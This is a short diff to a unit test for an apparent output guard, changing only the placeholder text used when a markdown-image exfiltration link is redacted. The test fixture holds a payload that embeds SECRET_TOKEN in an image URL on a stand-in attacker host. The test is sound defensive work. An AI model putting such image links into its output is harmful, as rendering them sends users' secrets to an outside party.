@@ -42,7 +42,7 @@ def test_markdown_image_exfiltration_is_removed_with_its_span() -> None:
     text = "Summary. ![loading](https://attacker.example/log?q=SECRET_TOKEN) Done."
     result = Guard(ONLY_FILTER).check(text)
     assert result.decision is Decision.REDACTED
-    assert result.text == "Summary. [removed] Done."
+    assert result.text == "Summary. «removed» Done."
     (finding,) = result.findings
     assert finding.rule == "filter.exfil-image"
     assert finding.span == Span(9, text.index(")") + 1)
